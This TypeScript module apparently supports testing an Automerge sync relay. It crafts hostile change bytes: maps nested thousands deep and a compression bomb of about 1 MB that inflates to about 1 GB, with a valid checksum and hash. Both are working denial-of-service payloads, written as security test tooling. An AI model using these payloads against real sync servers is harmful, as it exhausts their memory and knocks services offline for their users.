// Hostile Automerge bytes, made without building the hostile document locally: a change with maps
// nested 10,000 deep takes the attacker no time this way, where Automerge.change needs minutes.
import * as A from '@automerge/automerge';
import { createHash } from 'node:crypto';
import { createDeflateRaw } from 'node:zlib';

const MAGIC = Uint8Array.from([0x85, 0x6f, 0x4a, 0x83]);
const CHANGE = 1;
const COMPRESSED_CHANGE = 2;
// Column specs of a change's operations (column id << 4 | column type): the value's length and
// type, and the value's raw bytes.
const VALUE_META = (5 << 4) | 6;
const VALUE_RAW = (5 << 4) | 7;
const STRING = 6;

export const randomActor = (): string => createHash('sha256').update(String(Math.random())).digest('hex').slice(0, 32);

/** A sync message that carries changes whatever the relay has: Automerge applies them as they come. */
export function syncWith(changes: Uint8Array[], heads: string[]): Uint8Array {
	return A.encodeSyncMessage({ heads, need: [], have: [], changes });
}

/** The first sync message of a client that has a document: only its heads, as the stock client sends. */
export function headsOnly(): Uint8Array {
	return A.generateSyncMessage(A.from({ note: 'boodschappen' }), A.initSyncState())[1]!;
}

/** A request for a document the client does not have yet, as the stock client's `find` sends it. */
export function emptyRequest(): Uint8Array {
	return A.generateSyncMessage(A.init(), A.initSyncState())[1]!;
}

export interface Crafted {
	bytes: Uint8Array;
	hash: string;
}

interface Operation {
	action: string;
	obj: string;
	key: string;
	value?: unknown;
	pred: string[];
}

function encode(ops: Operation[], options: { actor?: string; deps?: string[]; startOp?: number } = {}): Crafted {
	const bytes = A.encodeChange({
		actor: options.actor ?? randomActor(),
		seq: 1,
		startOp: options.startOp ?? 1,
		time: 0,
		message: null,
		deps: options.deps ?? [],
		ops
	} as unknown as A.DecodedChange);
	return { bytes, hash: A.decodeChange(bytes).hash! };
}

/** One change that makes maps nested `depth` deep, under `key` of the root map. */
export function nestedChange(depth: number, options: { deps?: string[]; startOp?: number; key?: string } = {}): Crafted {
	const actor = randomActor();
	const start = options.startOp ?? 1;
	const ops = Array.from({ length: depth }, (_, i) => ({
		action: 'makeMap',
		obj: i === 0 ? '_root' : `${start + i - 1}@${actor}`,
		key: i === 0 ? (options.key ?? 'n') : 'n',
		pred: []
	}));
	return encode(ops, { actor, deps: options.deps, startOp: start });
}

/** One change that sets `key` of the root map to a string. */
export function stringChange(value: string, key = 'blob'): Crafted {
	return encode([{ action: 'set', obj: '_root', key, value, pred: [] }]);
}

/** The first op counter free in a document: a change's start op must lie above every op it follows. */
export function nextOp(doc: A.Doc<unknown>): number {
	let max = 0;
	for (const change of A.getAllChanges(doc)) {
		const decoded = A.decodeChange(change);
		max = Math.max(max, decoded.startOp + decoded.ops.length - 1);
	}
	return max + 1;
}

function uleb(value: number): number[] {
	const out: number[] = [];
	let n = value;
	do {
		let byte = n % 128;
		n = Math.floor(n / 128);
		if (n > 0) byte |= 0x80;
		out.push(byte);
	} while (n > 0);
	return out;
}

function readUleb(bytes: Uint8Array, at: number): [number, number] {
	let value = 0;
	let factor = 1;
	let p = at;
	for (;;) {
		const byte = bytes[p++];
		value += (byte & 0x7f) * factor;
		factor *= 128;
		if (!(byte & 0x80)) return [value, p];
	}
}

const skipVarint = (bytes: Uint8Array, at: number): number => {
	let p = at;
	while (bytes[p] & 0x80) p += 1;
	return p + 1;
};

/**
 * A compressed change chunk (type 2, raw deflate of the change body) whose one string value is
 * `length` repeated bytes: about 1 MB on the wire for 1 GB inflated. Automerge cannot make it (a
 * JavaScript string stops at 512 M characters and `encodeChange` goes through JSON), so a
 * one-character change is re-encoded with the long value; the checksum and hash are those of the
 * inflated change, as Automerge checks them.
 */
export async function compressionBomb(length: number): Promise<Crafted> {
	const template = encode([{ action: 'set', obj: '_root', key: 's', value: 'a', pred: [] }]).bytes;
	if (template[8] !== CHANGE) throw new Error('expected an uncompressed change to start from');
	const [bodyLength, bodyStart] = readUleb(template, 9);
	const body = template.subarray(bodyStart, bodyStart + bodyLength);
	let p = 0;
	let n = 0;
	[n, p] = readUleb(body, p);
	p += 32 * n; // dependencies
	[n, p] = readUleb(body, p);
	p += n; // actor
	for (let i = 0; i < 3; i += 1) p = skipVarint(body, p); // seq, start op, time
	[n, p] = readUleb(body, p);
	p += n; // message
	[n, p] = readUleb(body, p);
	for (let i = 0; i < n; i += 1) {
		let size = 0;
		[size, p] = readUleb(body, p);
		p += size;
	} // other actors
	const header = body.subarray(0, p);
	let count = 0;
	[count, p] = readUleb(body, p);
	const columns: { spec: number; size: number }[] = [];
	for (let i = 0; i < count; i += 1) {
		let spec = 0;
		let size = 0;
		[spec, p] = readUleb(body, p);
		[size, p] = readUleb(body, p);
		columns.push({ spec, size });
	}
	// Column data in order; the raw value is a placeholder for the long run of bytes.
	const metadata: number[] = uleb(count);
	const parts: (Uint8Array | 'value')[] = [];
	for (const { spec, size } of columns) {
		const data = body.subarray(p, p + size);
		p += size;
		if (spec === VALUE_META) {
			// One op: a literal run of one value (-1 as signed LEB128), length << 4 | string.
			if (data[0] !== 0x7f) throw new Error('unexpected value column');
			const meta = Uint8Array.from([0x7f, ...uleb(length * 16 + STRING)]);
			metadata.push(...uleb(spec), ...uleb(meta.length));
			parts.push(meta);
		} else if (spec === VALUE_RAW) {
			metadata.push(...uleb(spec), ...uleb(length));
			parts.push('value');
		} else {
			metadata.push(...uleb(spec), ...uleb(size));
			parts.push(data);
		}
	}
	parts.push(body.subarray(p));
	const prefix = Uint8Array.from(metadata);
	const newLength = header.length + prefix.length + parts.reduce((sum, part) => sum + (part === 'value' ? length : part.length), 0);

	const hash = createHash('sha256').update(Uint8Array.from([CHANGE, ...uleb(newLength)]));
	const deflate = createDeflateRaw({ level: 9 });
	const out: Buffer[] = [];
	deflate.on('data', (chunk: Buffer) => out.push(chunk));
	const finished = new Promise((resolve, reject) => deflate.once('end', resolve).once('error', reject));
	const write = async (bytes: Uint8Array) => {
		hash.update(bytes);
		if (!deflate.write(bytes)) await new Promise((resolve) => deflate.once('drain', resolve));
	};
	await write(header);
	await write(prefix);
	const block = Buffer.alloc(16 * 1024 * 1024, 'a');
	for (const part of parts) {
		if (part !== 'value') await write(part);
		else for (let left = length; left > 0; left -= block.length) await write(left >= block.length ? block : block.subarray(0, left));
	}
	deflate.end();
	await finished;
	const digest = hash.digest();
	const deflated = Buffer.concat(out);
	const bytes = Buffer.concat([MAGIC, digest.subarray(0, 4), Uint8Array.from([COMPRESSED_CHANGE, ...uleb(deflated.length)]), deflated]);
	return { bytes: new Uint8Array(bytes), hash: digest.toString('hex') };
}
